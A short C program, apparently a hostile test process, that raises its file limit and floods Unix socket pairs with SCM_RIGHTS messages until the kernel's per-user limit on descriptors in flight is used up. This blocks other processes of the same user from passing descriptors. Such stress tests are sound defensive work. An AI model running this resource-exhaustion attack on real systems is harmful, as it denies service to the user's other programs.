/* Keeps as many descriptors in flight as its user may have, so that nobody else of this user can pass one. */
#include "lib/hostile.h"

int main(int argc, char **argv) {
  guard(argc, argv);
  struct rlimit limit;
  getrlimit(RLIMIT_NOFILE, &limit);
  limit.rlim_cur = limit.rlim_max;
  setrlimit(RLIMIT_NOFILE, &limit);
  int pair[2], given[200], sent = 0;
  for (int index = 0; index < 200; index++) given[index] = 2;
  for (int round = 0; round < 4096 && !socketpair(AF_UNIX, SOCK_DGRAM | SOCK_NONBLOCK, 0, pair); round++)
    for (int message = 0; message < 12; message++) {
      char byte = 'x', control[CMSG_SPACE(sizeof given)] = {0};
      struct iovec data = {&byte, 1};
      struct msghdr head = {.msg_iov = &data, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control};
      struct cmsghdr *rights = CMSG_FIRSTHDR(&head);
      rights->cmsg_level = SOL_SOCKET, rights->cmsg_type = SCM_RIGHTS, rights->cmsg_len = CMSG_LEN(sizeof given);
      memcpy(CMSG_DATA(rights), given, sizeof given);
      if (sendmsg(pair[0], &head, 0) < 0) {
        if (errno == ETOOMANYREFS) round = 4096;
        break;
      }
      sent += 200;
    }
  fprintf(stderr, "%d descriptors in flight\n", sent);
  play_on(NULL);
}
